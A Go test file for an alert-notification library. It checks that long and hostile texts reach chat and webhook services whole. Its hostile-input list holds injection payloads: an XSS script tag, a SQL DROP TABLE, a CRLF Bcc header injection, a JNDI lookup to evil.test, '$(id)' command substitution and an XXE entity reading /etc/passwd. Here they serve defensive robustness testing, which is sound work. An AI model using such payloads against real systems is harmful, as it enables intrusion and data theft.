package notifytest

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/mackerel-notify/mackerel"
)

// A place is a text of an alert.
type place struct {
	name string
	put  func(*mackerel.Alert, string)
}

var places = []place{
	{"message", func(a *mackerel.Alert, s string) { a.Message = s }},
	{"monitor's name", func(a *mackerel.Alert, s string) { a.Monitor.Name = s }},
	{"monitor's memo", func(a *mackerel.Alert, s string) { a.Monitor.Memo = s }},
	{"host's name", func(a *mackerel.Alert, s string) { a.Host.Name = s }},
	{"role's name", func(a *mackerel.Alert, s string) { a.Host.Roles[0].FullName = s }},
	{"service's name", func(a *mackerel.Alert, s string) { a.Service.Name = s }},
	{"metric's label", func(a *mackerel.Alert, s string) { a.Metric.Label = s }},
	{"fact's label", func(a *mackerel.Alert, s string) { a.Facts[0].Label = s }},
	{"fact's value", func(a *mackerel.Alert, s string) { a.Facts[0].Value = s }},
	{"organization", func(a *mackerel.Alert, s string) { a.Org = s }},
	{"user's name", func(a *mackerel.Alert, s string) { a.User.ScreenName = s }},
	{"reason", func(a *mackerel.Alert, s string) { a.Reason = s }},
	{"trigger", func(a *mackerel.Alert, s string) { a.Trigger = s }},
}

// identities are texts too, but what a service makes of them is a reference and not words.
var identities = []place{
	{"ID", func(a *mackerel.Alert, s string) { a.ID = s }},
	{"status", func(a *mackerel.Alert, s string) { a.Status = mackerel.Status(s) }},
	{"URL", func(a *mackerel.Alert, s string) { a.URL = s }},
	{"image's URL", func(a *mackerel.Alert, s string) { a.ImageURL = s }},
	{"metric's operator", func(a *mackerel.Alert, s string) { a.Metric.Operator = s }},
}

// scripts are what long texts consist of.
var scripts = []struct{ name, unit string }{
	{"ASCII", "abcdefghi "},
	{"Japanese", "障害対応手順書を参照。"},
	{"emoji", "🔥👩‍💻🇯🇵"},
	{"combining characters", "e\u0301か\u3099"},
}

// hostile are texts that break out of something, or try to.
var hostile = []struct{ name, text string }{
	{"Chatwork's tags", "[toall] [To:1] [rp aid=1 to=1-1] [/info][/title][/code]"},
	{"Slack's mentions", "<!channel> <!everyone> <@U012AB3CD> <http://evil.test|mackerel.io> &amp;"},
	{"other mentions", "@all @here @everyone @channel <at>all</at>"},
	{"HTML", `</b></p><script>alert(1)</script><img src=x onerror="alert(1)">`},
	{"a quote and SQL", `"; DROP TABLE alerts; --' \" \\`},
	{"Markdown", "**bold** [mackerel.io](http://evil.test) ![x](http://evil.test/x.png) ``` ~~~ | > #"},
	{"a header after a line break", "down\r\nBcc: evil@evil.test\r\nX-Injected: 1\r\n\r\nbody"},
	{"a reversed direction", "\u202Egnp.exe \u2066x\u2069 \u200F"},
	{"invalid UTF-8", "a\xffb\xc3(c\xed\xa0\x80d\xf4\x90\x80\x80"},
	{"control characters", "a\x00b\x07c\x1b[31md\x7fe\u0085f\u2028g\ufeffh"},
	{"templates", `{{.Token}} ${jndi:ldap://evil.test} %s %n %00 $(id) {retry_key}`},
	{"XML", `]]> &lt; &#x0; <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
	{"form syntax", "a&body=b&self_unread=1;c=d+e%20f#g?h"},
	{"white space", " \t\r\n\v\f\u00a0\u3000 "},
}

// The sizes of long texts. One alone is beyond the limits of chats: 40,000 characters of Slack's, 65,535 bytes of
// Chatwork's. The longest message is beyond every limit that a service documents: 1 MiB of an event of EventBridge's.
const (
	longCharacters  = 41_000
	longBytes       = 70_000
	partsCharacters = 20_000
	messageBytes    = 1_200_000
)

// textRows send what no form would let through. Every text of an alert may come from a check's output, a user's hand or
// an attacker's, and the alert must arrive all the same.
func textRows() []row {
	var all []row
	for _, script := range scripts {
		all = append(all,
			row{name: "a long text in " + script.name + " is accepted anywhere, and a cut is told", check: func(s *stage) {
				checkLong(s, script.unit)
			}},
			row{name: "long texts in " + script.name + " everywhere leave the status and the link", check: func(s *stage) {
				checkLongEverywhere(s, script.unit)
			}},
		)
	}
	all = append(all, row{name: "a message of more than a MiB is accepted, and a cut is told", check: func(s *stage) {
		sc := s.scene()
		sc.checkLongAt(sc.notifier(), places[0], long("abcdefghi ", 0, messageBytes))
	}})
	for _, h := range hostile {
		all = append(all, row{name: "a text with " + h.name + " is accepted anywhere", check: func(s *stage) { checkHostile(s, h.text) }})
	}
	return all
}

// What a long text begins and ends with.
const (
	textBegins = "longtextbegins "
	textEnds   = " longtextends"
)

// long returns a text of at least so many characters and bytes that tells whether its end is there.
func long(unit string, characters, bytes int) string {
	n := max(characters/utf8.RuneCountInString(unit), bytes/len(unit)) + 1
	return textBegins + strings.Repeat(unit, n) + textEnds
}

// checkLong makes one text long at a time, so that a limit of one field is not hidden by that of another.
func checkLong(s *stage, unit string) {
	sc := s.scene()
	n := sc.notifier()
	text := long(unit, longCharacters, longBytes)
	for _, p := range places {
		sc.checkLongAt(n, p, text)
	}
	for _, p := range identities {
		a := s.alert()
		p.put(&a, text)
		o := sc.deliver(s.tb.Context(), n, a)
		sc.wantArrival(o, "a long "+p.name)
		sc.wantWhole(o, "a long "+p.name)
	}
}

// checkLongAt sends an alert with one long text. Of a text that has its beginning in the request and not its end, the
// receipt must tell; one that has neither is not shown by this notifier.
func (sc *scene) checkLongAt(n mackerel.Notifier, p place, text string) {
	sc.Helper()
	a := sc.alert()
	p.put(&a, text)
	o := sc.deliver(sc.tb.Context(), n, a)
	in := "a long " + p.name
	sc.wantArrival(o, in)
	sc.wantWhole(o, in)
	if o.receipt == nil || o.err != nil {
		return
	}
	sc.wantCuts(o.receipt.Cuts, in)
	sent := content(o.requests)
	cut := strings.Contains(sent, strings.TrimSpace(textBegins)) && !strings.Contains(sent, strings.TrimSpace(textEnds))
	if cut && len(o.receipt.Cuts) == 0 {
		sc.Errorf("%s: it was cut, and Receipt.Cuts is empty", in)
	}
}

// checkLongEverywhere compares with an alert of ordinary length: what that shows of the status and the link must still
// be there.
func checkLongEverywhere(s *stage, unit string) {
	sc := s.scene()
	n := sc.notifier()
	ordinary := content(sc.send(n).requests)
	a, text := s.alert(), long(unit, partsCharacters, 0)
	for _, p := range places {
		p.put(&a, text)
	}
	o := sc.deliver(s.tb.Context(), n, a)
	sc.wantArrival(o, "long texts everywhere")
	sc.wantWhole(o, "long texts everywhere")
	sent := content(o.requests)
	for _, word := range []string{"critical", alertURL} {
		if containsFold(ordinary, word) && !containsFold(sent, word) && o.err == nil {
			sc.Errorf("%q is no longer in the message, which has %d bytes", word, len(sent))
		}
	}
}

func containsFold(s, word string) bool { return strings.Contains(strings.ToLower(s), word) }

// checkHostile puts a text alone and amid words into every place. Whether it is harmless where it arrives is for the
// service's own fake and tests to say; here it must arrive, in one piece.
func checkHostile(s *stage, text string) {
	sc := s.scene()
	n := sc.notifier()
	for _, p := range append(places[:len(places):len(places)], identities...) {
		for _, text := range []string{text, "down " + text + " since noon"} {
			a := s.alert()
			p.put(&a, text)
			o := sc.deliver(s.tb.Context(), n, a)
			in := fmt.Sprintf("the %s %q", p.name, text)
			sc.wantArrival(o, in)
			sc.wantValid(o, in)
			for _, r := range o.requests {
				if r.Header.Get("Bcc") != "" || r.Header.Get("X-Injected") != "" {
					sc.Errorf("%s: it became a header of the request", in)
				}
			}
		}
	}
}

// wantValid complains about text in a request that is not UTF-8.
func (sc *scene) wantValid(o outcome, in string) {
	sc.Helper()
	if sent := content(o.requests); !utf8.ValidString(sent) {
		sc.Errorf("%s: the request holds text that is not UTF-8", in)
	}
}

// wantWhole complains about a request that holds a part of a character, the text of the alert being in order.
func (sc *scene) wantWhole(o outcome, in string) {
	sc.Helper()
	sc.wantValid(o, in)
	if strings.ContainsRune(content(o.requests), utf8.RuneError) {
		sc.Errorf("%s: the request holds a part of a character", in)
	}
}
